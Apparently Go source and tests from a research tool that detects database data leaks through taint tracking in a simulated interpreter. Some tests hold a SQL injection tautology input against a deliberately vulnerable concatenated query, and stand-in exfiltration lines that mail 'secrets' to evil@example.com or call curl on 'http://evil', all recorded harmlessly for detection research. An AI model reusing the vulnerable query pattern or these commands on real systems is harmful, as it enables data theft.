		if _, err := ip.Run(); err != nil {
			b.Fatal(err)
		}
	}
}
