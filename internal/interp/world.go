package interp

import (
	"strings"

	"adprom/internal/dbclient"
	"adprom/internal/minidb"
)

// VFile is a virtual file in the interpreter's world. Files exist so that
// exfiltration attacks (attack 1.2/1.3: redirect query results to a file)
// have an observable effect, and so that the §VII mitigation — labelling
// files that received TD and auditing later actions on them — can be
// implemented.
type VFile struct {
	Name string
	Mode string
	buf  strings.Builder
	// TaintedBy accumulates the query origins whose data was written into
	// this file.
	TaintedBy Taint
	readPos   int
	lines     []string // parsed lazily for fgets
}

// Write appends data carrying taint t.
func (f *VFile) Write(data string, t Taint) {
	f.buf.WriteString(data)
	f.TaintedBy = f.TaintedBy.Union(t)
	f.lines = nil
}

// Contents returns everything written so far.
func (f *VFile) Contents() string { return f.buf.String() }

// ReadLine returns the next line for fgets; ok is false at EOF.
func (f *VFile) ReadLine() (string, bool) {
	if f.lines == nil {
		f.lines = strings.Split(f.buf.String(), "\n")
	}
	if f.readPos >= len(f.lines) {
		return "", false
	}
	line := f.lines[f.readPos]
	f.readPos++
	return line, true
}

// QueryRecord is one query observed on the wire, joined with the call site
// that issued it. The detection engine uses these to report which query a
// leaked value came from.
type QueryRecord struct {
	Origin Origin
	SQL    string
}

// World is the environment a program executes in: the database, the virtual
// terminal, the virtual filesystem, and the simulated network. One World is
// typically shared by many runs of the same program (the database persists),
// while Stdout/Net accumulate per world.
type World struct {
	DB     *minidb.Database
	Stdout strings.Builder
	Files  map[string]*VFile
	// Net records payloads pushed off-host via send(2) or system("mail ..."),
	// the exfiltration channels §VII discusses.
	Net []string
	// Queries is the wire-level query log with issuing origins.
	Queries []QueryRecord
	// Rewriter, when set, is installed on every connection the program opens
	// — the man-in-the-middle of attack 3.2, who rewrites queries in transit
	// on unencrypted connections.
	Rewriter dbclient.Rewriter
}

// NewWorld creates a world around db. A nil db gets a fresh empty database,
// convenient for programs that don't touch the DB (the SIR-style corpus).
func NewWorld(db *minidb.Database) *World {
	if db == nil {
		db = minidb.New()
	}
	return &World{DB: db, Files: map[string]*VFile{}}
}

// OpenFile returns the named virtual file, creating it on first open.
// Mode "w" truncates, anything else appends/reads.
func (w *World) OpenFile(name, mode string) *VFile {
	f, ok := w.Files[name]
	if !ok || strings.HasPrefix(mode, "w") {
		f = &VFile{Name: name, Mode: mode}
		w.Files[name] = f
	}
	return f
}

// TaintedFiles returns the names of files that received TD, sorted order is
// the caller's concern.
func (w *World) TaintedFiles() []string {
	var out []string
	for name, f := range w.Files {
		if len(f.TaintedBy) > 0 {
			out = append(out, name)
		}
	}
	return out
}

// ResetIO clears the terminal, files, network log, and query log while
// keeping the database. Used between test-case runs so each trace starts
// from a quiet world against warm data.
func (w *World) ResetIO() {
	w.Stdout.Reset()
	w.Files = map[string]*VFile{}
	w.Net = nil
	w.Queries = nil
}
