package interp

import (
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"adprom/internal/ir"
	"adprom/internal/minidb"
)

func itemsDB(t *testing.T, n int) *minidb.Database {
	t.Helper()
	db := minidb.New()
	db.MustExec("CREATE TABLE items (id INT, name TEXT)")
	for i := 0; i < n; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO items VALUES (%d, 'item%d')", 10+i, i))
	}
	return db
}

// fig1Program is the paper's Figure 1: query items, loop over the rows,
// print each value. whereClause controls selectivity.
func fig1Program(t *testing.T, whereClause string) *ir.Program {
	t.Helper()
	b := ir.NewBuilder("fig1")
	m := b.Func("main")
	entry := m.Block()
	loop := m.Block()
	body := m.Block()
	done := m.Block()

	entry.CallTo("conn", "PQconnectdb")
	entry.Assign("query", ir.S("SELECT * FROM items WHERE "+whereClause))
	entry.CallTo("result", "PQexec", ir.V("conn"), ir.V("query"))
	entry.CallTo("rows", "PQntuples", ir.V("result"))
	entry.Assign("r", ir.I(0))
	entry.Goto(loop)
	loop.If(ir.Lt(ir.V("r"), ir.V("rows")), body, done)
	body.CallTo("v", "PQgetvalue", ir.V("result"), ir.V("r"), ir.I(0))
	body.Call("printf", ir.S("%s"), ir.V("v"))
	body.Assign("r", ir.Add(ir.V("r"), ir.I(1)))
	body.Goto(loop)
	done.Ret()
	return b.MustBuild()
}

// collect runs prog and returns the emitted labels plus the run result.
func collect(t *testing.T, prog *ir.Program, world *World, opts Options, input ...string) ([]Event, *RunResult) {
	t.Helper()
	ip := New(prog, world, opts)
	var events []Event
	ip.AddHook(func(e *Event) { events = append(events, *e) })
	res, err := ip.Run(input...)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	return events, res
}

func labels(events []Event) []string {
	out := make([]string, len(events))
	for i, e := range events {
		out[i] = e.Label
	}
	return out
}

func TestFigure1CallSequence(t *testing.T) {
	world := NewWorld(itemsDB(t, 5))
	events, _ := collect(t, fig1Program(t, "id = 10"), world, Options{})

	// One matching row: PQconnectdb, PQexec, PQntuples, then one
	// PQgetvalue/printf pair. The printf receives TD, so it is labelled.
	want := []string{"PQconnectdb", "PQexec", "PQntuples", "PQgetvalue", "printf_Q2"}
	if got := labels(events); !reflect.DeepEqual(got, want) {
		t.Errorf("labels = %v, want %v", got, want)
	}
	if got := world.Stdout.String(); got != "10" {
		t.Errorf("stdout = %q, want %q", got, "10")
	}
}

// TestFigure1SelectivityAttack reproduces the paper's Figure 1 attack: the
// query predicate is widened from = to >=, and the call sequence grows by one
// (PQgetvalue, printf) pair per extra row.
func TestFigure1SelectivityAttack(t *testing.T) {
	db := itemsDB(t, 5)

	normal, _ := collect(t, fig1Program(t, "id = 10"), NewWorld(db), Options{})
	attacked, _ := collect(t, fig1Program(t, "id >= 10"), NewWorld(db), Options{})

	if len(normal) != 5 {
		t.Fatalf("normal run emitted %d calls, want 5", len(normal))
	}
	// 5 rows: prefix of 3 + 5 pairs.
	if len(attacked) != 3+2*5 {
		t.Fatalf("attacked run emitted %d calls, want %d", len(attacked), 13)
	}
	var pairs int
	for _, e := range attacked {
		if e.Name == "printf" {
			pairs++
			if e.Label != "printf_Q2" {
				t.Errorf("leaking printf labelled %q", e.Label)
			}
		}
	}
	if pairs != 5 {
		t.Errorf("attacked run printed %d rows, want 5", pairs)
	}
}

// fig2Program is the paper's Figure 2: the vulnerable banking lookup that
// concatenates raw user input into the query.
func fig2Program(t *testing.T) *ir.Program {
	t.Helper()
	b := ir.NewBuilder("fig2")
	m := b.Func("main")
	entry := m.Block()
	loop := m.Block()
	inner := m.Block()
	innerBody := m.Block()
	innerDone := m.Block()
	done := m.Block()

	entry.CallTo("conn", "mysql_real_connect")
	entry.CallTo("accNo", "scanf", ir.S("%s"))
	entry.CallTo("query", "strcpy", ir.S("SELECT * FROM clients WHERE id='"))
	entry.CallTo("query", "strcat", ir.V("query"), ir.V("accNo"))
	entry.CallTo("query", "strcat", ir.V("query"), ir.S("';"))
	entry.CallTo("st", "mysql_query", ir.V("conn"), ir.V("query"))
	entry.CallTo("result", "mysql_store_result", ir.V("conn"))
	entry.CallTo("nf", "mysql_num_fields", ir.V("result"))
	entry.Goto(loop)

	loop.CallTo("row", "mysql_fetch_row", ir.V("result"))
	loop.If(ir.V("row"), inner, done)
	inner.Assign("i", ir.I(0))
	inner.Goto(innerBody)
	innerBody.If(ir.Lt(ir.V("i"), ir.V("nf")), innerDone, loop)
	innerDone.Call("printf", ir.S("%s "), ir.At(ir.V("row"), ir.V("i")))
	innerDone.Assign("i", ir.Add(ir.V("i"), ir.I(1)))
	innerDone.Goto(innerBody)
	done.Ret()
	return b.MustBuild()
}

func clientsDB(t *testing.T, n int) *minidb.Database {
	t.Helper()
	db := minidb.New()
	db.MustExec("CREATE TABLE clients (id INT, name TEXT)")
	for i := 1; i <= n; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO clients VALUES (%d, 'c%d')", 100+i, i))
	}
	return db
}

// TestFigure2SQLInjection reproduces the tautology attack end to end: the
// injected input really reaches the engine, really matches every row, and
// really multiplies the (mysql_fetch_row, printf) portion of the trace.
func TestFigure2SQLInjection(t *testing.T) {
	db := clientsDB(t, 10)
	prog := fig2Program(t)

	normal, _ := collect(t, prog, NewWorld(db), Options{}, "105")
	injected, _ := collect(t, prog, NewWorld(db), Options{}, "1' OR '1'='1")

	countName := func(evs []Event, name string) int {
		n := 0
		for _, e := range evs {
			if e.Name == name {
				n++
			}
		}
		return n
	}
	if got := countName(normal, "printf"); got != 2 { // one row, two fields
		t.Errorf("normal printf count = %d, want 2", got)
	}
	if got := countName(injected, "printf"); got != 20 { // ten rows, two fields
		t.Errorf("injected printf count = %d, want 20", got)
	}
	// fetch_row fires rows+1 times (the final nil ends the loop).
	if got := countName(normal, "mysql_fetch_row"); got != 2 {
		t.Errorf("normal fetch count = %d, want 2", got)
	}
	if got := countName(injected, "mysql_fetch_row"); got != 11 {
		t.Errorf("injected fetch count = %d, want 11", got)
	}
	// The printed fields are TD, so every printf is a _Q label.
	for _, e := range injected {
		if e.Name == "printf" && !strings.HasPrefix(e.Label, "printf_Q") {
			t.Errorf("leaking printf labelled %q", e.Label)
		}
	}
}

func TestTaintDistinguishesOutputs(t *testing.T) {
	b := ir.NewBuilder("mix")
	m := b.Func("main")
	e := m.Block()
	e.CallTo("conn", "PQconnectdb")
	e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT COUNT(*) FROM items"))
	e.CallTo("n", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
	e.Call("printf", ir.S("count=%s"), ir.V("n")) // TD → labelled
	e.Call("printf", ir.S("done"))                // constant → plain
	e.Ret()
	prog := b.MustBuild()

	events, _ := collect(t, prog, NewWorld(itemsDB(t, 3)), Options{})
	got := labels(events)
	want := []string{"PQconnectdb", "PQexec", "PQgetvalue", "printf_Q0", "printf"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("labels = %v, want %v", got, want)
	}
	// The labelled event carries the query origin.
	var tainted *Event
	for i := range events {
		if events[i].Label == "printf_Q0" {
			tainted = &events[i]
		}
	}
	if tainted == nil || len(tainted.Origins) != 1 || tainted.Origins[0] != (Origin{Func: "main", Block: 0}) {
		t.Errorf("tainted event origins = %+v", tainted)
	}
}

func TestFileExfiltrationTaintsFile(t *testing.T) {
	b := ir.NewBuilder("exfil")
	m := b.Func("main")
	e := m.Block()
	e.CallTo("conn", "PQconnectdb")
	e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT name FROM items"))
	e.CallTo("v", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
	e.CallTo("f", "fopen", ir.S("/tmp/out"), ir.S("w"))
	e.Call("fprintf", ir.V("f"), ir.S("stolen: %s"), ir.V("v"))
	e.Call("fclose", ir.V("f"))
	e.Ret()
	prog := b.MustBuild()

	world := NewWorld(itemsDB(t, 2))
	events, _ := collect(t, prog, world, Options{})
	var fp *Event
	for i := range events {
		if e := &events[i]; e.Name == "fprintf" {
			fp = e
		}
	}
	if fp == nil || fp.Label != "fprintf_Q0" {
		t.Fatalf("fprintf event = %+v, want _Q0 label", fp)
	}
	if got := world.Files["/tmp/out"].Contents(); got != "stolen: item0" {
		t.Errorf("file contents = %q", got)
	}
	if tf := world.TaintedFiles(); len(tf) != 1 || tf[0] != "/tmp/out" {
		t.Errorf("TaintedFiles = %v", tf)
	}
}

func TestUserFunctionsAndReturns(t *testing.T) {
	b := ir.NewBuilder("calls")
	sq := b.Func("square", "x")
	sb := sq.Block()
	sb.RetVal(ir.Mul(ir.V("x"), ir.V("x")))

	m := b.Func("main")
	e := m.Block()
	e.InvokeTo("y", "square", ir.I(7))
	e.Call("printf", ir.S("%d"), ir.V("y"))
	e.Ret()
	prog := b.MustBuild()

	world := NewWorld(nil)
	events, res := collect(t, prog, world, Options{})
	if world.Stdout.String() != "49" {
		t.Errorf("stdout = %q, want 49", world.Stdout.String())
	}
	if len(events) != 1 || events[0].Caller != "main" {
		t.Errorf("events = %+v", events)
	}
	if res.Calls != 1 {
		t.Errorf("Calls = %d, want 1", res.Calls)
	}
}

func TestRecursionWorksAndDepthIsBounded(t *testing.T) {
	build := func(base int64) *ir.Program {
		b := ir.NewBuilder("rec")
		f := b.Func("fact", "n")
		e := f.Block()
		rec := f.Block()
		baseB := f.Block()
		e.If(ir.Le(ir.V("n"), ir.I(base)), baseB, rec)
		baseB.RetVal(ir.I(1))
		rec.InvokeTo("sub", "fact", ir.Sub(ir.V("n"), ir.I(1)))
		rec.RetVal(ir.Mul(ir.V("n"), ir.V("sub")))

		m := b.Func("main")
		mb := m.Block()
		mb.InvokeTo("r", "fact", ir.I(10))
		mb.Call("printf", ir.S("%d"), ir.V("r"))
		mb.Ret()
		return b.MustBuild()
	}

	world := NewWorld(nil)
	collect(t, build(1), world, Options{})
	if world.Stdout.String() != "3628800" {
		t.Errorf("10! = %q", world.Stdout.String())
	}

	// Non-terminating recursion trips the depth guard.
	ip := New(build(-1_000_000), NewWorld(nil), Options{MaxDepth: 50})
	if _, err := ip.Run(); !errors.Is(err, ErrDepth) {
		t.Errorf("runaway recursion error = %v, want ErrDepth", err)
	}
}

func TestStepLimitStopsInfiniteLoop(t *testing.T) {
	b := ir.NewBuilder("spin")
	m := b.Func("main")
	e := m.Block()
	e.Goto(e)
	prog := b.MustBuild()

	ip := New(prog, nil, Options{MaxSteps: 100})
	if _, err := ip.Run(); !errors.Is(err, ErrSteps) {
		t.Errorf("infinite loop error = %v, want ErrSteps", err)
	}
}

func TestCaptureArgsMode(t *testing.T) {
	b := ir.NewBuilder("args")
	m := b.Func("main")
	e := m.Block()
	e.Call("printf", ir.S("%s=%d"), ir.S("x"), ir.I(42))
	e.Ret()
	prog := b.MustBuild()

	fast, _ := collect(t, prog, NewWorld(nil), Options{})
	if fast[0].Args != nil {
		t.Errorf("fast mode captured args: %v", fast[0].Args)
	}
	full, _ := collect(t, prog, NewWorld(nil), Options{CaptureArgs: true})
	if want := []string{"%s=%d", "x", "42"}; !reflect.DeepEqual(full[0].Args, want) {
		t.Errorf("full mode Args = %v, want %v", full[0].Args, want)
	}
}

func TestUnknownBuiltinIsObservableButInert(t *testing.T) {
	b := ir.NewBuilder("odd")
	m := b.Func("main")
	e := m.Block()
	e.CallTo("x", "curl_easy_perform", ir.S("http://evil"))
	e.Call("printf", ir.S("after"))
	e.Ret()
	prog := b.MustBuild()

	world := NewWorld(nil)
	events, _ := collect(t, prog, world, Options{})
	if got := labels(events); !reflect.DeepEqual(got, []string{"curl_easy_perform", "printf"}) {
		t.Errorf("labels = %v", got)
	}
	if world.Stdout.String() != "after" {
		t.Errorf("stdout = %q", world.Stdout.String())
	}
}

func TestNetworkChannels(t *testing.T) {
	b := ir.NewBuilder("net")
	m := b.Func("main")
	e := m.Block()
	e.Call("system", ir.S("mail -s secrets evil@example.com"))
	e.Call("send", ir.S("payload"))
	e.Ret()
	prog := b.MustBuild()

	world := NewWorld(nil)
	collect(t, prog, world, Options{})
	want := []string{"system:mail -s secrets evil@example.com", "send:payload"}
	if !reflect.DeepEqual(world.Net, want) {
		t.Errorf("Net = %v, want %v", world.Net, want)
	}
}

func TestQueriesAreRecordedWithOrigins(t *testing.T) {
	world := NewWorld(itemsDB(t, 1))
	collect(t, fig1Program(t, "id = 10"), world, Options{})
	if len(world.Queries) != 1 {
		t.Fatalf("Queries = %v", world.Queries)
	}
	q := world.Queries[0]
	if q.Origin != (Origin{Func: "main", Block: 0}) || !strings.Contains(q.SQL, "id = 10") {
		t.Errorf("query record = %+v", q)
	}
}

func TestFormatVerbs(t *testing.T) {
	x := &exec{}
	cases := []struct {
		args []Value
		want string
	}{
		{[]Value{StrV("plain")}, "plain"},
		{[]Value{StrV("%s and %d"), StrV("a"), IntV(7)}, "a and 7"},
		{[]Value{StrV("%02d%%"), IntV(5)}, "5%"},
		{[]Value{StrV("%c"), IntV(65)}, "A"},
		{[]Value{StrV("%c"), StrV("zebra")}, "z"},
		{[]Value{StrV("%f"), IntV(3)}, "3"},
		{[]Value{StrV("missing %s")}, "missing (null)"},
		{[]Value{StrV("%q literal")}, "%q literal"},
		{[]Value{StrV("trail %")}, "trail %"},
		{[]Value{StrV("loose"), IntV(1), StrV("x")}, "loose 1 x"},
		{nil, ""},
	}
	for _, tc := range cases {
		got, _ := x.format(tc.args)
		if got != tc.want {
			t.Errorf("format(%v) = %q, want %q", tc.args, got, tc.want)
		}
	}

	// Taint flows through formatted arguments.
	tainted := StrV("td").WithTaint(NewTaint(Origin{Func: "m", Block: 3}))
	_, taint := x.format([]Value{StrV("%s"), tainted})
	if len(taint) != 1 {
		t.Errorf("format taint = %v, want 1 origin", taint)
	}
}

func TestWorldResetIOKeepsDB(t *testing.T) {
	world := NewWorld(itemsDB(t, 2))
	collect(t, fig1Program(t, "id >= 10"), world, Options{})
	if world.Stdout.Len() == 0 || len(world.Queries) == 0 {
		t.Fatal("run left no traces to reset")
	}
	world.ResetIO()
	if world.Stdout.Len() != 0 || len(world.Queries) != 0 || len(world.Files) != 0 || world.Net != nil {
		t.Error("ResetIO left residue")
	}
	if n, _ := world.DB.RowCount("items"); n != 2 {
		t.Errorf("ResetIO dropped DB rows: %d", n)
	}
}

func TestValueHelpers(t *testing.T) {
	if !IntV(3).Truthy() || IntV(0).Truthy() {
		t.Error("int truthiness wrong")
	}
	if !StrV("x").Truthy() || StrV("").Truthy() {
		t.Error("string truthiness wrong")
	}
	if NullV().Truthy() {
		t.Error("null is truthy")
	}
	if !RowV([]string{"a"}).Truthy() {
		t.Error("row truthiness wrong")
	}
	if StrV(" 42 ").AsInt() != 42 || StrV("junk").AsInt() != 0 {
		t.Error("AsInt coercion wrong")
	}
	if RowV([]string{"a", "b"}).Text() != "a|b" {
		t.Error("row Text wrong")
	}
}

func TestTaintUnion(t *testing.T) {
	o1 := Origin{Func: "f", Block: 1}
	o2 := Origin{Func: "g", Block: 2}
	a := NewTaint(o1)
	b := NewTaint(o2)

	if got := a.Union(nil); len(got) != 1 {
		t.Errorf("Union(nil) = %v", got)
	}
	if got := Taint(nil).Union(b); len(got) != 1 {
		t.Errorf("nil.Union = %v", got)
	}
	u := a.Union(b)
	if len(u) != 2 {
		t.Errorf("Union = %v", u)
	}
	// Union with a subset returns the receiver unchanged (no allocation).
	if got := u.Union(a); len(got) != 2 {
		t.Errorf("subset union = %v", got)
	}
	origins := u.Origins()
	if len(origins) != 2 || origins[0] != o1 || origins[1] != o2 {
		t.Errorf("Origins = %v", origins)
	}
	if NewTaint() != nil {
		t.Error("empty NewTaint is not nil")
	}
}
