package interp

import (
	"sort"
	"strconv"
	"strings"

	"adprom/internal/dbclient"
)

// Kind enumerates runtime value kinds.
type Kind int

// Runtime value kinds. KNull doubles as the "no row" sentinel that ends
// mysql_fetch_row loops.
const (
	KNull Kind = iota
	KInt
	KStr
	KRow
	KResult
	KConn
	KFile
)

func (k Kind) String() string {
	switch k {
	case KNull:
		return "null"
	case KInt:
		return "int"
	case KStr:
		return "string"
	case KRow:
		return "row"
	case KResult:
		return "result"
	case KConn:
		return "conn"
	case KFile:
		return "file"
	default:
		return "kind(" + strconv.Itoa(int(k)) + ")"
	}
}

// Origin identifies the call site that retrieved a piece of targeted data
// from the database — the "source" AD-PROM links leak alerts back to.
type Origin struct {
	Func  string
	Block int
}

func (o Origin) String() string { return o.Func + ":b" + strconv.Itoa(o.Block) }

// Taint is the set of query origins a value is data-dependent on. The zero
// value (nil) means untainted. Taints are treated as immutable: union
// allocates only when both sides are non-empty and distinct.
type Taint map[Origin]struct{}

// NewTaint builds a taint set from origins.
func NewTaint(origins ...Origin) Taint {
	if len(origins) == 0 {
		return nil
	}
	t := make(Taint, len(origins))
	for _, o := range origins {
		t[o] = struct{}{}
	}
	return t
}

// Union merges two taint sets, reusing an operand when possible.
func (t Taint) Union(other Taint) Taint {
	switch {
	case len(other) == 0:
		return t
	case len(t) == 0:
		return other
	}
	subset := true
	for o := range other {
		if _, ok := t[o]; !ok {
			subset = false
			break
		}
	}
	if subset {
		return t
	}
	merged := make(Taint, len(t)+len(other))
	for o := range t {
		merged[o] = struct{}{}
	}
	for o := range other {
		merged[o] = struct{}{}
	}
	return merged
}

// Origins returns the sorted origin list, for deterministic event payloads.
func (t Taint) Origins() []Origin {
	if len(t) == 0 {
		return nil
	}
	out := make([]Origin, 0, len(t))
	for o := range t {
		out = append(out, o)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Func != out[j].Func {
			return out[i].Func < out[j].Func
		}
		return out[i].Block < out[j].Block
	})
	return out
}

// Value is a runtime value with its taint.
type Value struct {
	Kind   Kind
	Int    int64
	Str    string
	Row    []string
	Result *dbclient.Result
	Conn   *dbclient.Conn
	File   *VFile
	Taint  Taint
}

// Typed constructors.
func IntV(v int64) Value    { return Value{Kind: KInt, Int: v} }
func StrV(v string) Value   { return Value{Kind: KStr, Str: v} }
func NullV() Value          { return Value{Kind: KNull} }
func RowV(r []string) Value { return Value{Kind: KRow, Row: r} }

// WithTaint returns a copy of v carrying taint t merged with v's own.
func (v Value) WithTaint(t Taint) Value {
	v.Taint = v.Taint.Union(t)
	return v
}

// Truthy reports C-style truthiness: non-zero ints, non-empty strings,
// non-null handles. A KNull row pointer is false, which is what terminates
// the while((row = mysql_fetch_row(...))) loops of the dataset programs.
func (v Value) Truthy() bool {
	switch v.Kind {
	case KInt:
		return v.Int != 0
	case KStr:
		return v.Str != ""
	case KNull:
		return false
	case KRow:
		return v.Row != nil
	case KResult:
		return v.Result != nil
	case KConn:
		return v.Conn != nil
	case KFile:
		return v.File != nil
	default:
		return false
	}
}

// AsInt coerces the value to an integer (C-ish: strings parse leniently,
// anything else is 0/1 by truthiness).
func (v Value) AsInt() int64 {
	switch v.Kind {
	case KInt:
		return v.Int
	case KStr:
		n, err := strconv.ParseInt(strings.TrimSpace(v.Str), 10, 64)
		if err != nil {
			return 0
		}
		return n
	default:
		if v.Truthy() {
			return 1
		}
		return 0
	}
}

// Text renders the value for output builtins and argument capture.
func (v Value) Text() string {
	switch v.Kind {
	case KInt:
		return strconv.FormatInt(v.Int, 10)
	case KStr:
		return v.Str
	case KNull:
		return "(null)"
	case KRow:
		return strings.Join(v.Row, "|")
	case KResult:
		return "<result>"
	case KConn:
		return "<conn>"
	case KFile:
		if v.File != nil {
			return "<file:" + v.File.Name + ">"
		}
		return "<file>"
	default:
		return "<?>"
	}
}
