package interp

import (
	"errors"
	"strings"
	"testing"

	"adprom/internal/ir"
	"adprom/internal/minidb"
)

// runProg executes a one-function program built by fill and returns the
// world.
func runProg(t *testing.T, db *minidb.Database, input []string, fill func(*ir.BlockBuilder)) *World {
	t.Helper()
	b := ir.NewBuilder("bt")
	m := b.Func("main")
	e := m.Block()
	fill(e)
	e.Ret()
	world := NewWorld(db)
	ip := New(b.MustBuild(), world, Options{})
	if _, err := ip.Run(input...); err != nil {
		t.Fatalf("Run: %v", err)
	}
	return world
}

func runErr(t *testing.T, fill func(*ir.BlockBuilder)) error {
	t.Helper()
	b := ir.NewBuilder("bt")
	m := b.Func("main")
	e := m.Block()
	fill(e)
	e.Ret()
	ip := New(b.MustBuild(), NewWorld(nil), Options{})
	_, err := ip.Run()
	return err
}

func TestStringBuiltins(t *testing.T) {
	w := runProg(t, nil, nil, func(e *ir.BlockBuilder) {
		e.CallTo("a", "strcpy", ir.S("hello"))
		e.CallTo("b", "strcat", ir.V("a"), ir.S(" world"))
		e.CallTo("n", "strlen", ir.V("b"))
		e.CallTo("c", "strcmp", ir.S("abc"), ir.S("abd"))
		e.CallTo("i", "atoi", ir.S("42"))
		e.CallTo("s", "itoa", ir.I(-7))
		e.CallTo("sn", "snprintf", ir.I(3), ir.S("%s"), ir.V("b"))
		e.Call("printf", ir.S("%s|%d|%d|%d|%s|%s"), ir.V("b"), ir.V("n"), ir.V("c"), ir.V("i"), ir.V("s"), ir.V("sn"))
	})
	if got, want := w.Stdout.String(), "hello world|11|-1|42|-7|hel"; got != want {
		t.Errorf("stdout = %q, want %q", got, want)
	}
}

func TestFileBuiltins(t *testing.T) {
	w := runProg(t, nil, nil, func(e *ir.BlockBuilder) {
		e.CallTo("f", "fopen", ir.S("out.txt"), ir.S("w"))
		e.Call("fputs", ir.S("line1\n"), ir.V("f"))
		e.Call("fputc", ir.I(88), ir.V("f")) // 'X'
		e.Call("fputc", ir.S("yz"), ir.V("f"))
		e.Call("fwrite", ir.S("!"), ir.V("f"))
		e.Call("write", ir.V("f"), ir.S("@"))
		e.Call("fclose", ir.V("f"))
		e.CallTo("g", "fopen", ir.S("out.txt"), ir.S("r"))
		e.CallTo("l", "fgets", ir.V("g"))
		e.Call("printf", ir.S("read: %s"), ir.V("l"))
	})
	if got := w.Files["out.txt"].Contents(); got != "line1\nXy!@" {
		t.Errorf("file = %q", got)
	}
	if got := w.Stdout.String(); got != "read: line1" {
		t.Errorf("stdout = %q", got)
	}
}

func TestFgetsEOFReturnsNull(t *testing.T) {
	w := runProg(t, nil, nil, func(e *ir.BlockBuilder) {
		e.CallTo("f", "fopen", ir.S("x"), ir.S("w"))
		e.CallTo("g", "fopen", ir.S("x"), ir.S("r"))
		e.CallTo("l1", "fgets", ir.V("g")) // empty file: one "" line
		e.CallTo("l2", "fgets", ir.V("g")) // then EOF
		e.Call("printf", ir.S("%d"), ir.V("l2"))
	})
	if got := w.Stdout.String(); got != "0" {
		t.Errorf("null AsInt rendered %q", got)
	}
}

func TestWriteToStdoutWithFd(t *testing.T) {
	w := runProg(t, nil, nil, func(e *ir.BlockBuilder) {
		e.Call("write", ir.I(1), ir.S("direct"))
	})
	if got := w.Stdout.String(); got != "direct" {
		t.Errorf("stdout = %q", got)
	}
}

func TestOutputBuiltinsRequireFiles(t *testing.T) {
	cases := []func(*ir.BlockBuilder){
		func(e *ir.BlockBuilder) { e.Call("fprintf", ir.S("notafile"), ir.S("x")) },
		func(e *ir.BlockBuilder) { e.Call("fputs", ir.S("data"), ir.S("notafile")) },
		func(e *ir.BlockBuilder) { e.Call("fputc", ir.I(1), ir.I(2)) },
		func(e *ir.BlockBuilder) { e.Call("write", ir.I(1)) },
		func(e *ir.BlockBuilder) { e.Call("fgets", ir.S("nope")) },
	}
	for i, fill := range cases {
		if err := runErr(t, fill); !errors.Is(err, ErrRuntime) {
			t.Errorf("case %d: err = %v, want ErrRuntime", i, err)
		}
	}
}

func TestDBBuiltinsRequireConnections(t *testing.T) {
	cases := []func(*ir.BlockBuilder){
		func(e *ir.BlockBuilder) { e.CallTo("r", "PQexec", ir.S("notconn"), ir.S("SELECT 1")) },
		func(e *ir.BlockBuilder) { e.CallTo("r", "mysql_query", ir.I(0), ir.S("SELECT 1")) },
		func(e *ir.BlockBuilder) { e.CallTo("r", "mysql_store_result", ir.S("x")) },
	}
	for i, fill := range cases {
		if err := runErr(t, fill); !errors.Is(err, ErrRuntime) {
			t.Errorf("case %d: err = %v, want ErrRuntime", i, err)
		}
	}
}

func TestFailedQueryYieldsNullResultAndError(t *testing.T) {
	db := minidb.New()
	w := runProg(t, db, nil, func(e *ir.BlockBuilder) {
		e.CallTo("conn", "mysql_real_connect")
		e.CallTo("st", "mysql_query", ir.V("conn"), ir.S("SELECT * FROM missing"))
		e.CallTo("res", "mysql_store_result", ir.V("conn"))
		e.CallTo("msg", "mysql_error", ir.V("conn"))
		e.Call("printf", ir.S("%d|%d|%s"), ir.V("st"), ir.V("res"), ir.V("msg"))
	})
	out := w.Stdout.String()
	if !strings.HasPrefix(out, "1|0|") || !strings.Contains(out, "no such table") {
		t.Errorf("stdout = %q", out)
	}

	// libpq flavour: PQexec on a bad query returns a falsy handle.
	w = runProg(t, db, nil, func(e *ir.BlockBuilder) {
		e.CallTo("conn", "PQconnectdb")
		e.CallTo("res", "PQexec", ir.V("conn"), ir.S("BOGUS"))
		e.Call("printf", ir.S("%d"), ir.V("res"))
	})
	if got := w.Stdout.String(); got != "0" {
		t.Errorf("PQexec failure handle = %q", got)
	}
}

func TestConnectionCloseBuiltins(t *testing.T) {
	db := minidb.New()
	db.MustExec("CREATE TABLE t (a INT)")
	w := runProg(t, db, nil, func(e *ir.BlockBuilder) {
		e.CallTo("c1", "PQconnectdb")
		e.Call("PQfinish", ir.V("c1"))
		e.CallTo("r", "PQexec", ir.V("c1"), ir.S("SELECT * FROM t"))
		e.Call("printf", ir.S("%d"), ir.V("r")) // closed conn → null handle
		e.CallTo("c2", "mysql_init")
		e.Call("mysql_close", ir.V("c2"))
		e.Call("PQclear", ir.V("r"))
		e.Call("mysql_free_result", ir.V("r"))
		e.Call("malloc", ir.I(8))
		e.Call("free", ir.I(0))
		e.CallTo("m", "memcpy", ir.S("z"))
	})
	if got := w.Stdout.String(); got != "0" {
		t.Errorf("stdout = %q", got)
	}
}

func TestMySQLNumRowsAndTaintedCounts(t *testing.T) {
	db := minidb.New()
	db.MustExec("CREATE TABLE t (a INT)")
	db.MustExec("INSERT INTO t VALUES (1), (2), (3)")
	b := ir.NewBuilder("counts")
	m := b.Func("main")
	e := m.Block()
	e.CallTo("conn", "mysql_real_connect")
	e.CallTo("st", "mysql_query", ir.V("conn"), ir.S("SELECT * FROM t"))
	e.CallTo("res", "mysql_store_result", ir.V("conn"))
	e.CallTo("nr", "mysql_num_rows", ir.V("res"))
	e.CallTo("nf", "mysql_num_fields", ir.V("res"))
	e.Call("printf", ir.S("%d rows %d cols"), ir.V("nr"), ir.V("nf"))
	e.Ret()

	world := NewWorld(db)
	ip := New(b.MustBuild(), world, Options{})
	var last *Event
	ip.AddHook(func(ev *Event) {
		cp := *ev
		last = &cp
	})
	if _, err := ip.Run(); err != nil {
		t.Fatal(err)
	}
	if world.Stdout.String() != "3 rows 1 cols" {
		t.Errorf("stdout = %q", world.Stdout.String())
	}
	// The row/field counts are derived from TD, so the printf is labelled.
	if last == nil || last.Label != "printf_Q0" {
